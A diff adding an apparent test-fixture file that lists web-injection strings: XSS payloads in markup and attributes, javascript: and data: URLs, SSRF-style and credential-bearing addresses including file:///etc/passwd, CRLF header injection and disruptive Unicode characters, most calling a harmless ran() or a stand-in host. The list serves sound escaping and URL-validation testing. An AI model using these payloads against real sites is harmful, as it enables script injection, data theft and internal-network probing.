@@ -1,0 +1,79 @@
+/** Text that would be markup or script if anybody interpreted it; what would run calls `ran()`. None of it is refused. */
+export const MARKUP = [
+  '<script>ran()</script>',
+  '</script><script>ran()</script>',
+  '<!--<script>ran()</script>',
+  '<SCRIPT/SRC=//mau.example.com/x.js></SCRIPT>',
+  '<img src=x onerror=ran()>',
+  '<img src="https://mau.example.com/x.png">',
+  '"><img src=x onerror=ran()>',
+  '" onmouseover="ran()" style="position:fixed;inset:0" x="',
+  "' onfocus='ran()' autofocus='",
+  '<svg onload=ran()>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>',
+  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
+  '<base href="https://mau.example.com/">',
+  '<meta http-equiv="refresh" content="0;url=https://mau.example.com/">',
+  '<link rel="stylesheet" href="https://mau.example.com/x.css">',
+  '<style>*{display:none!important}@import "https://mau.example.com/x.css"</style>',
+  '<form action="https://mau.example.com/"><button>ok</button></form>',
+  '<a href="javascript:ran()">aqui</a>',
+  '<details open ontoggle=ran()>',
+  '<noscript><p title="</noscript><img src=x onerror=ran()>">',
+  '<plaintext>',
+  '</li></ul></div></section></main></body></html>',
+  '%3Cscript%3Eran()%3C/script%3E',
+  '"}]};ran();//',
+  '\u2028ran()\u2029ran()',
+  '{{constructor.constructor("ran()")()}}',
+  '__proto__',
+  '<bdi dir=rtl>olá',
+  '::error::ran()\n::set-output name=x::y',
+  '\r\nSet-Cookie: ran=1',
+]
+
+/** Addresses that are no picture's: scripts, data, other schemes, tricks of spelling, hosts that are nobody's. As text they are welcome. */
+export const ADDRESSES = [
+  'javascript:ran()',
+  'JaVaScRiPt:ran()',
+  'java\tscript:ran()',
+  'javascript&colon;ran()',
+  'javascript://https://example.com/%0aran()',
+  'data:text/html,<script>ran()</script>',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
+  'data:image/png;base64,iVBORw0KGgo=',
+  'file:///etc/passwd',
+  'about:blank',
+  'http://mau.example.com/x.jpg',
+  '//mau.example.com/x.jpg',
+  '\\\\mau.example.com\\x.jpg',
+  '/x.jpg',
+  'x.jpg',
+  '#x',
+  'https:mau.example.com/x.jpg',
+  'https://',
+  'https://user:pass@mau.example.com/x.jpg',
+  'https://projeto.supabase.co@mau.example.com/x.jpg',
+  'https://*.example.com/x.jpg',
+  'https://mau.example.com;script-src-elem/x.jpg',
+  "https://mau.example.com,'unsafe-inline'/x.jpg",
+  'https://127.0.0.1/x.jpg',
+  'https://2130706433/x.jpg',
+  'https://192.168.0.1/x.jpg',
+  'https://[::1]/x.jpg',
+  'https://intranet/x.jpg',
+  'https://example.com:99999/x.jpg',
+  'https://xn--a/x.jpg',
+]
+
+/** All that may stand in a text, on one line each as HTML reads it. */
+export const PAYLOADS = [...MARKUP, ...ADDRESSES].map((text) => text.replace(/\r\n?/g, '\n').trim())
+
+/** Characters that hide, reorder or break the text around them, or that no text may hold. */
+export const CHARACTERS = [
+  ...'\0\x07\b\v\f\x1b\x1f\x7f\x80\x85\x9b\x9f',
+  ...'\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff',
+  // Halves of surrogate pairs, alone and in the wrong order.
+  ...['\ud83d', '\ude00', '\ude00\ud83d'],
+  'e\u0301\u0300\u0302\u0303\u0304\u0306\u0307\u0308\u030a\u030b',
+]
